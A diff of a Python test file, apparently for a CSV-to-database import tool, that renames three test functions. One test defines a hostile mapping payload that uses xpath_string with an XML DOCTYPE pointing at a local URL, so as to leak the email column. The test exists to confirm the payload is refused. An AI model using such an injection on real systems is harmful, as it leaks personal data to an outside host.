@@ -158,7 +158,7 @@ def test_a_dry_run_says_what_would_happen_and_changes_nothing(tmp_path: Path, ho
 
 @pytest.mark.skipif(not (find_spec("tomllib") or find_spec("tomli")), reason="no reader of TOML")
 @pytest.mark.parametrize(("unread", "is_given_up"), [(4, True), (1, False)])
-def test_a_birth_date_that_cannot_be_read_keeps_no_customer_out(
+def test_an_unreadable_birth_date_rejects_no_customer(
     tmp_path: Path, home: Path, unread: int, is_given_up: bool
 ) -> None:
     """No number of the report depends on it; a few bad ones are rejected rows like any others."""
@@ -218,7 +218,7 @@ def test_three_commands_bring_own_customers_to_results(tmp_path: Path, database:
 
 
 @pytest.mark.skipif(not (find_spec("tomllib") or find_spec("tomli")), reason="no reader of TOML")
-def test_orders_that_do_not_count_are_asked_about_and_left_out(tmp_path: Path, database: Database) -> None:
+def test_uncounted_orders_are_confirmed_and_omitted(tmp_path: Path, database: Database) -> None:
     """The plan shows the condition, which the mapping contains as a comment."""
     statuses = ["Approved"] * 7 + ["Cancelled"] * 2 + [""]
     lines = [f"{9000 + i},{i % 2},2024-01-0{1 + i % 9},10.00,{status}" for i, status in enumerate(statuses)]
@@ -242,7 +242,7 @@ def test_orders_that_do_not_count_are_asked_about_and_left_out(tmp_path: Path, d
     assert fetch(database, "SELECT sum(amount) FROM public.events") == [(80,)]
 
 
-def test_a_hostile_mapping_beside_the_file_leaks_nothing(tmp_path: Path) -> None:
+def test_a_hostile_mapping_next_to_the_file_leaks_nothing(tmp_path: Path) -> None:
     """It is found by its name and used without a question; the functions that it calls are refused."""
     (tmp_path / "members.csv").write_text("id,joined,email\n1,2024-01-02,a@example.com\n")
     leak = "xpath_string(concat('<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/', email, '\"><a/>'), 'a')"
